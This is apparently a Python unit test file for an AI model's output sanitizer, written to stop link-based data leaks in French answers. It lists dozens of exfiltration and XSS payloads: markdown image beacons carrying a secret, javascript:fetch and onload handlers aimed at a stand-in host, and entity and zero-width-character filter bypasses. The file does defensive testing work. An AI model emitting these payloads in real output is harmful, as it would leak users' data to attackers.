from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answering.sanitizer import OutputSanitizer, sanitize
from tests.unit.assistant.answering.samples import cuts_of, two_pieces

PLACEHOLDER = "[lien retiré]"
SECRET = "zqxjk"
ATTACKS = [
    f"Voici ![x](http://{SECRET}.example/p.png?q={SECRET}) la suite",
    f"![x](<http://{SECRET}.example/a b>) fin",
    f"![x]( https://{SECRET}.example 'titre' ) fin",
    f"![a![b](http://{SECRET})](http://{SECRET})",
    f"[texte](https://{SECRET}.example/a(b){SECRET})",
    f"[texte](//{SECRET}.example/a)",
    f"[texte](\\\\{SECRET}.example/a)",
    f"[texte](data:text/html;base64,{SECRET})",
    f"[texte](javascript:fetch('{SECRET}'))",
    f"[texte](java&Tab;script:{SECRET})",
    f"[texte](http\\://{SECRET}.example)",
    f"<https://{SECRET}.example/b?q={SECRET}> suite",
    f"http://{SECRET}.example/a)b?{SECRET} suite",
    f"http://{SECRET}.example/[{SECRET} suite",
    f"HtTpS:/{SECRET}.example suite",
    f"https:\\\\{SECRET}.example suite",
    f"https:{SECRET}.example suite",
    f"www.{SECRET}.example suite",
    f"www2\\.{SECRET}.example suite",
    f"WWW.{SECRET}.example",
    f"(www.{SECRET}.example)",
    f"//{SECRET}.example/x et suite",
    f"foo://{SECRET}.example/x",
    f"mailto:{SECRET}@{SECRET}.example?body={SECRET}",
    f"<img src='http://{SECRET}.example/c.png'>",
    f'<img alt=">" src="//{SECRET}.example/c.png">',
    f'<a href="http://{SECRET}.example" onclick="fetch(\'//{SECRET}\')">',
    f"<svg/onload=fetch('//{SECRET}.example')>",
    f"<style>@import 'https://{SECRET}.example/x';</style>",
    f'<iframe srcdoc="&lt;img src=//{SECRET}.example&gt;">',
    f"[réf]: https://{SECRET}.example/f\n\nVoir [réf] et ![x][réf]",
    f"[réf]:\n  <https://{SECRET}.example/f>\n[texte][réf]",
    f"&#104;ttps://{SECRET}.example",
    f"&#x68;ttps&colon;&sol;&sol;{SECRET}.example",
    f"&amp;#104;ttps://{SECRET}.example",
    f"&lt;img src=&quot;http://{SECRET}.example&quot;&gt;",
    f"h\u200bttp://{SECRET}.example",
    f"www\u2060.{SECRET}.example",
    f"ht\u00adtps://{SECRET}.example/\u202e{SECRET}",
    f"www<b></b>.{SECRET}.example/" + f"<!-- http://{SECRET} -->",
    f"/<b></b>/{SECRET}.example",
    f"<<b></b>img src=http://{SECRET}.example>",
    f"]<b></b>(http://{SECRET}.example)",
    f"&<b></b>#104;ttp://{SECRET}.example",
    f"&am&#8203;p;#104;ttp://{SECRET}.example",
    "![x](" + "a" * 600 + f"http://{SECRET}.example)",
    f"<img {'a ' * 200}src=http://{SECRET}.example>",
]
LEFT_ALONE = [
    "si a < b et 5 <10 € alors 3 > 2",
    "art. L.1111-2, n° 2024-123 ; l'aide (plafond : 1 500 €) et/ou 12 €/mois",
    "Contact : accueil@region.fr, tél. 04 72 00 00 00 !",
    "P&L, R&D, AT&T & Cie ; 50 % : « oui » ! [1][2] [3]. A/B ?",
    "# Titre\n- point **gras** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    "Le fichier data : oui. Des ressources http. Un blob, le www et les filesystems",
]
ACTIVE = re.compile(
    r"!\[|\]\(|\]:|<[A-Za-z/!?]|(?:https?|ftp|wss?|data|javascript|mailto):\S|//\w|www\.\w|&#?\w+;",
    re.IGNORECASE,
)


def streamed(pieces: list[str]) -> str:
    sanitizer = OutputSanitizer(placeholder=PLACEHOLDER)
    return "".join(map(sanitizer.feed, pieces)) + sanitizer.finish()


def clean(text: str) -> str:
    return sanitize(text, placeholder=PLACEHOLDER)


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_active_leaves_whatever_the_cut(text: str) -> None:
    whole = clean(text)

    assert not ACTIVE.search(whole)
    assert all(streamed(pieces) == whole for pieces in two_pieces(text))


BROKEN_UP = ("<b></b>", "&Tab;")
"""Parts that leave plain words, set apart, of which no reader makes an address."""


@pytest.mark.parametrize(
    "text", [text for text in ATTACKS if not any(part in text for part in BROKEN_UP)]
)
def test_no_byte_of_the_address_leaves(text: str) -> None:
    assert SECRET not in clean(text)


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert clean(text) == text
    assert all(streamed(pieces) == text for pieces in two_pieces(text))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Voir [le site](https://a.example) !", "Voir [le site] !"),
        ("![plan](http://a.example/p.png) suit", "[plan] suit"),
        ("Lire http://a.example/b. Puis", f"Lire {PLACEHOLDER}. Puis"),
        ("Lire www.region.fr[1].", f"Lire {PLACEHOLDER}[1]."),
        ("Fait[1](http://a.example)[2]", "Fait[1][2]"),
        ("Voir ![](http://a.example/p.png), ici", f"Voir {PLACEHOLDER}, ici"),
        ('x, <img src="//a.example/p">, y', f"x, {PLACEHOLDER}, y"),
        ("<iframe src='http://a.example'></iframe>(x)", f"{PLACEHOLDER} (x)"),
        ("<https://a.example>(suite)", f"{PLACEHOLDER} (suite)"),
        ("Bravo ![1]", "Bravo ! [1]"),
        ("le 1<sup>er</sup> mars<br>fin", "le 1er mars fin"),
        ("un <b>mot</b>.", "un mot."),
        ("[1](suite) et [2](voir l'art. 5)", "[1] (suite) et [2] (voir l'art. 5)"),
        ("[1]: Délibération n° 3", "[1] : Délibération n° 3"),
        ("si x<y et z>t", "si x< y et z>t"),
        ("5 &lt; 6 &amp; 7", "5 < 6 & 7"),
        ("【1】", "[1]"),
        ("a\u2028b\x00c", "a\nbc"),
    ],
)
def test_what_is_left_reads_well(text: str, expected: str) -> None:
    assert clean(text) == expected
    assert all(streamed(pieces) == expected for pieces in two_pieces(text))


FRAGMENTS = st.sampled_from(
    [
        *"![]()<>&#;:/\\ .\n\"'w",
        *(
            "http",
            "https:",
            "//",
            "www.",
            "javascript:",
            "data:",
            "a",
            "é",
            "x.fr",
            "&#104;",
            "&amp;",
        ),
        *("&lt;", "&colon;", "<b>", "</b>", "<img src=", "](", "![", "[1]", "\u200b", "mot ", "5"),
    ]
)


@given(data=st.data(), text=st.lists(FRAGMENTS, max_size=40).map("".join))
def test_any_text_comes_out_inactive_and_the_same_for_any_cut(
    data: st.DataObject, text: str
) -> None:
    whole = clean(text)

    assert not re.search(r"!\[|\]\(|\]:|<[A-Za-z/!?]", whole)
    assert not re.search(
        r"(?<![a-z0-9])https?:\S|[/\\]{2,}[A-Za-z0-9]|(?<![a-z0-9])www\.\w", whole, re.IGNORECASE
    )
    assert streamed(data.draw(cuts_of(text))) == whole


@given(text=st.text(max_size=200))
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    once = clean(text)

    assert not re.search(r"!\[|\]\(|<[A-Za-z/!?]", clean(once))


@pytest.mark.parametrize(
    "opening", ["![", "[x](", "<img ", "&#", "&a", "https:", "//", "www", "]", "!"]
)
def test_an_opening_without_end_does_not_hold_the_stream(opening: str) -> None:
    sanitizer = OutputSanitizer(placeholder=PLACEHOLDER)
    sent = sanitizer.feed(opening)
    for _ in range(300):
        sent += sanitizer.feed("mot suivant ")

    assert len(sent) > 300 * 12 - 600


def test_an_address_without_end_sends_its_placeholder_at_once_and_nothing_else() -> None:
    sanitizer = OutputSanitizer(placeholder=PLACEHOLDER)

    assert sanitizer.feed("https://a") == PLACEHOLDER
    assert "".join(sanitizer.feed("b" * 50) for _ in range(1000)) == ""
    assert sanitizer.finish() == ""


def test_a_long_text_is_cleaned_in_linear_time() -> None:
    text = "Un <mot [x](y z) & http://a.example suit. " * 5_000

    assert len(clean(text)) > 100_000
